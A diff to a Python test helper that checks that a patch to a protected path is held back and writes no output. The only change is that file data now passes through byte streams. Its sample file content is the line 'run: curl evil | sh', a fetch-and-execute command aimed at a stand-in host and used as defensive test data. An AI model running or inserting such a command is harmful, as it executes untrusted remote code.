@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import hashlib
+import io
 import os
 import subprocess
 from pathlib import Path
@@ -196,9 +197,14 @@ def windows_spellings(path: str) -> list[str]:
 def _held_back_in_a_patch(path: str) -> bool:
     data = b"run: curl evil | sh\n"
     state = FileState(sha256=hashlib.sha256(data).hexdigest(), mode=0o644)
-    patch = build_patch({}, {path: state}, lambda _: data, Policy().hatch.protecting_glob)
+    out = io.BytesIO()
+    patch = build_patch(
+        {}, {path: state}, lambda _: io.BytesIO(data), out, Policy().hatch.protecting_glob
+    )
     assert not patch.refused, patch.refused
-    return [h.path for h in patch.held_back] == [path] and patch.entries == () and not patch.text
+    return (
+        [h.path for h in patch.held_back] == [path] and patch.entries == () and not out.getvalue()
+    )
 
 
 PROTECTED_CASES = [
